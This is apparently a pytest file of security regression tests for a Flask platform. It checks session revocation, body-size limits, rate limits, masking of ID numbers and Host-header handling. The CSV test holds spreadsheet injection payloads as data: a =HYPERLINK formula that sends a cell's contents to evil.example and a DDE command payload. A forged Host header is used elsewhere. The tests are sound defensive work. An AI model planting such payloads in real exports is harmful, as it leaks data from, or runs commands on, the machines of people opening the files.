"""A second attack on the platform (after issue 12): each hole found, reproduced as the
attacker did it, and now refused.  Expectations are derived from the input each test sends."""
from __future__ import annotations

import csv
import io

from app.audit import operations as audit
from app.auth import operations as auth_ops
from app.security import csv_cell
from tests.conftest import PASSWORD, csrf_from, login, user


def _post(client, url, data, page_url=None, **kw):
    page = client.get(page_url or url).get_data(as_text=True)
    return client.post(url, data={**data, "csrf_token": csrf_from(page)}, **kw)


def test_a_password_change_ends_the_api_token_and_the_other_sessions(app, dbs):
    """The holder changes a password they think is known: the token issued before, and a
    session signed in elsewhere, stop working; the session that changed it goes on."""
    token = auth_ops.issue_api_token(None, user("exchange"))
    dbs.flush()
    elsewhere, here = app.test_client(), app.test_client()
    assert login(elsewhere, "exchange").status_code == 302
    assert login(here, "exchange").status_code == 302
    r = _post(here, "/account/password", {"old": PASSWORD, "new": "a-new-password-9"})
    assert r.status_code == 303
    api = app.test_client().get("/api/me", headers={"Authorization": f"Bearer {token}"})
    assert api.status_code == 401
    assert elsewhere.get("/account/password").status_code == 302  # to the sign-in page
    assert here.get("/account/password").status_code == 200


def test_a_body_over_the_request_limit_is_refused_before_it_is_read(app):
    """Anyone could make a worker buffer a 2 GB JSON body (or spool a 2 GB form) on any route,
    /login included: one byte over the limit is now 413."""
    limit = app.config["MAX_CONTENT_LENGTH"]
    assert limit <= 64 * 1024 ** 2
    body = b'{"a":"' + b"x" * (limit - 7) + b'"}'
    assert len(body) == limit + 1
    c = app.test_client()
    for url in ("/login", "/report", "/api/me"):
        assert c.post(url, data=body, content_type="application/json").status_code == 413, url
    form = {"what_happened": "x" * (limit + 1)}
    assert c.post("/report", data=form).status_code == 413


def test_csv_cells_never_run_as_spreadsheet_formulas(app, login_as, dbs):
    """A reason typed into a refused action comes back in the compliance CSV an auditor opens
    in Excel/WPS: it must arrive as text, not as =HYPERLINK(...)."""
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    audit.record(user("officer"), "withdrawal.refused", "withdrawal", 1, {"rule": "attack"},
                 payload)
    dbs.flush()
    r = login_as("auditor").get("/compliance.csv")
    assert r.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(r.get_data(as_text=True).lstrip("\ufeff")))
             for c in row]
    mine = [c for c in cells if payload in c]
    assert mine and all(c == "'" + payload for c in mine)
    for cell in ("+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1", "＝1+1"):
        assert csv_cell(cell) == "'" + cell
    for cell in ("-12", "+8.5", "张三", "140404", 7, None):
        assert csv_cell(cell) == cell


def test_a_deactivated_account_costs_the_same_hash_check_as_any_other(dbs, monkeypatch):
    """Sign-in answered a deactivated account without checking the password (faster than a
    wrong password or an unknown name): a timing oracle for which names were real accounts."""
    calls = []
    real = auth_ops.check_password_hash
    monkeypatch.setattr(auth_ops, "check_password_hash",
                        lambda h, p: calls.append(p) or real(h, p))
    target = user("exchange")
    auth_ops.set_active(None, target, False, "调岗")
    dbs.flush()
    for name in ("exchange", "no-such-account", "auditor"):
        calls.clear()
        assert auth_ops.authenticate(name, "wrong-password") is None
        assert calls == ["wrong-password"], name
    calls.clear()
    assert auth_ops.authenticate("exchange", PASSWORD) is None  # the right password: still no


def test_expensive_routes_are_rate_limited_per_account(app, login_as, monkeypatch):
    """An account looping CSV reports, exports or PDF renders is throttled (429); another
    account (the same office address) is not."""
    from app.extensions import limiter

    monkeypatch.setitem(app.config, "EXPENSIVE_RATE_LIMIT", "2 per minute")
    limiter.storage.reset()
    try:
        auditor, bureau = login_as("auditor"), login_as("bureau")
        assert [auditor.get("/compliance.csv").status_code for _ in range(3)] == [200, 200, 429]
        assert bureau.get("/compliance.csv").status_code == 200
    finally:
        limiter.storage.reset()


def test_a_search_by_full_id_number_is_an_unmasked_view(app, login_as, dbs, monkeypatch):
    """The people list shows the mask and the birth year; a search by exact ID number said
    whether a guess was right, unlogged and unlimited — about 3,300 guesses rebuild a number,
    even for an auditor, whose role sees none.  Now: refused for roles without reveal, logged
    (masked) for the others, and counted."""
    from sqlalchemy import select

    from app.audit.models import AuditLog
    from app.extensions import limiter
    from app.people.idnumber import mask
    from app.people.models import Person

    farmer = user("farmer")
    number = dbs.scalar(select(Person.id_number).where(Person.id == farmer.person_id))
    name = dbs.scalar(select(Person.name).where(Person.id == farmer.person_id))
    limiter.storage.reset()
    monkeypatch.setitem(app.config, "ID_LOOKUP_PER_HOUR", 2)
    try:
        r = login_as("auditor").get(f"/people?q={number}")
        assert r.status_code == 403 and name not in r.get_data(as_text=True)
        officer = login_as("officer")
        r = officer.get(f"/people?q={number.lower()}")
        assert r.status_code == 200 and name in r.get_data(as_text=True)
        assert officer.get(f"/people?q={number}").status_code == 200
        r = officer.get(f"/people?q={number}")
        assert r.status_code == 429 and name not in r.get_data(as_text=True)
    finally:
        limiter.storage.reset()
    logged = dbs.scalars(select(AuditLog).where(AuditLog.action.like("person.lookup%"))
                         .order_by(AuditLog.id)).all()
    assert [e.action for e in logged][-4:] == ["person.lookup.refused", "person.lookup",
                                               "person.lookup", "person.lookup.refused"]
    assert all(e.changes["query"] == mask(number) for e in logged[-4:])
    assert all(number not in str(e.changes) for e in logged)


def test_the_compliance_report_shows_refusals_of_its_own_jurisdiction_only(app, login_as, dbs):
    """A county's bureau read every county's refused attempts (actor, object, details,
    reason) on /compliance and in its CSV; now only those made by staff it reaches."""
    far = auth_ops.create_user(None, "far-officer", "long-password-1", "bureau_staff", None,
                               "140405")
    near = user("officer")
    assert not near.jurisdiction_code.startswith("140405")
    audit.record(far, "withdrawal.refused", "withdrawal", 1, {"rule": "远处县的理由"}, "远处县")
    audit.record(near, "withdrawal.refused", "withdrawal", 2, {"rule": "本县的理由"}, "本县")
    dbs.flush()
    for page in ("/compliance", "/compliance.csv"):
        bureau = login_as("bureau").get(page).get_data(as_text=True)
        assert "本县的理由" in bureau and "远处县的理由" not in bureau, page
        admin = login_as("admin").get(page).get_data(as_text=True)
        assert "本县的理由" in admin and "远处县的理由" in admin, page


def test_ogc_links_never_come_from_the_host_header(app, monkeypatch):
    """The public OGC API built its links from the Host header even with PUBLIC_BASE_URL set
    (production): a forged Host went into the landing page and the paging links (cache
    poisoning).  Now from PUBLIC_BASE_URL."""
    base = "https://sanquan.example.gov.cn"
    monkeypatch.setitem(app.config, "PUBLIC_BASE_URL", base)
    c = app.test_client()
    for url in ("/ogc", "/ogc/collections", "/ogc/collections/parcels/items?limit=1"):
        r = c.get(url, headers={"Host": "evil.example"})
        assert r.status_code == 200, url
        body = r.get_data(as_text=True)
        assert "evil.example" not in body and base + "/ogc" in body, url


def test_import_fault_details_never_carry_a_full_id_number(app, login_as, dbs, tmp_path):
    """A delivery's ID faults (a wrong check digit: the real number one character off) and
    duplicate member keys wrote full ID numbers into the fault text, which the auditor (no
    unmasked data) read on the batch page, in report.csv and in faults.geojson."""
    from app.imports import operations as imports
    from app.people.idnumber import mask
    from tests.delivery_factory import clean

    d = clean(9177, households=2, parcels_per_household=1)
    members = d.tables["CBF_JTCY"]
    bad = members[0]["CYZJHM"][:17] + ("0" if members[0]["CYZJHM"][17] != "0" else "1")
    members[0]["CYZJHM"] = bad
    members.append(dict(members[1]))  # the same member twice: a duplicate key
    dup = members[1]["CYZJHM"]
    batch = imports.run("bureau", d.write(tmp_path / "d"))
    rules = {f.rule for f in imports.faults(batch.id)}
    assert {"bad_id_checksum", "duplicate_key"} <= rules
    auditor = login_as("auditor")
    for url in (f"/imports/{batch.id}", f"/imports/{batch.id}/report.csv",
                f"/imports/{batch.id}/faults.geojson"):
        r = auditor.get(url)
        assert r.status_code == 200, url
        body = r.get_data(as_text=True)
        assert bad not in body and dup not in body, url
    details = " ".join(f.detail + " " + (f.code or "") for f in imports.faults(batch.id))
    assert mask(bad) in details and mask(dup) in details
